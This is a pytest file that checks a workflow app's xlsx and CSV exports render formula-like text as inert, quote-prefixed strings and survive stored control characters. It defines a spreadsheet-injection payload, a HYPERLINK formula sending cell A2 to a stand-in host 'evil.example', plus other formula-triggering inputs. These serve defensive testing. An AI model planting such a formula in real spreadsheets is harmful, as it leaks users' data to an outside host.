"""Issue 11, break 4: no exported text becomes a live formula (xlsx and the dossier's CSV), and no stored text
crashes an export."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from workflow.audit.dossier import CSV_COLUMNS, to_csv
from workflow.reports.xlsx import CANDIDATE_COLUMNS, Column, Sheet, candidate_sheet, write_workbook

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
HOSTILE = [FORMULA, "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_text_that_looks_like_a_formula_is_written_as_inert_text(value: str, tmp_path: Path) -> None:
    path = tmp_path / "danh-sach.xlsx"
    write_workbook(path, [candidate_sheet([{"id": "c-1", "full_name": value, "org": "CB-01"}])])
    cell = load_workbook(path)["Danh sách"]["B2"]
    assert cell.data_type == "s"  # a string cell, never 'f'
    # a stored CR reads back as CR or LF depending on the XML writer (lxml or not): the text is the same
    assert str(cell.value).replace("\r", "\n") == value.replace("\r", "\n")
    assert cell.quotePrefix, "Excel keeps it text even when the cell is edited"


def test_numbers_stay_numbers_and_ordinary_text_stays_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "so-lieu.xlsx"
    columns = [Column("item", "Nội dung"), Column("value", "Số liệu", "auto")]
    write_workbook(path, [Sheet("Tổng hợp", columns, [{"item": "Tăng (+) / giảm (-)", "value": -3}])])
    ws = load_workbook(path)["Tổng hợp"]
    assert (ws["B2"].data_type, ws["B2"].value) == ("n", -3)
    assert (ws["A2"].data_type, ws["A2"].value, ws["A2"].quotePrefix) == ("s", "Tăng (+) / giảm (-)", False)


def test_a_control_character_stored_before_it_was_refused_does_not_crash_the_export(tmp_path: Path) -> None:
    path = tmp_path / "chi-bo.xlsx"
    rows = [{"id": "c-1", "full_name": "Nguyễn\x00Văn\x1b[31m An", "org": "CB-01"}]
    write_workbook(path, [candidate_sheet(rows)])  # openpyxl raised IllegalCharacterError here
    ws = load_workbook(path)["Danh sách"]
    assert ws["B2"].value == "Nguyễn\ufffdVăn\ufffd[31m An"
    assert [c.value for c in ws[1]] == [c.header for c in CANDIDATE_COLUMNS]


def test_the_dossier_csv_quote_prefixes_a_text_excel_would_read_as_a_formula() -> None:
    row = dict.fromkeys(CSV_COLUMNS) | {"version": 1, "step": "identify", "forms": [], "corrections": [],
                                             "corrects": None, "payload": {"full_name": "An"},
                                             "actor": "@SUM(1+1)", "org_name": FORMULA, "org": "CB-01"}
    (line,) = list(csv.DictReader(io.StringIO(to_csv({"timeline": [row]}))))
    assert (line["actor"], line["org_name"], line["org"]) == ("'@SUM(1+1)", "'" + FORMULA, "CB-01")
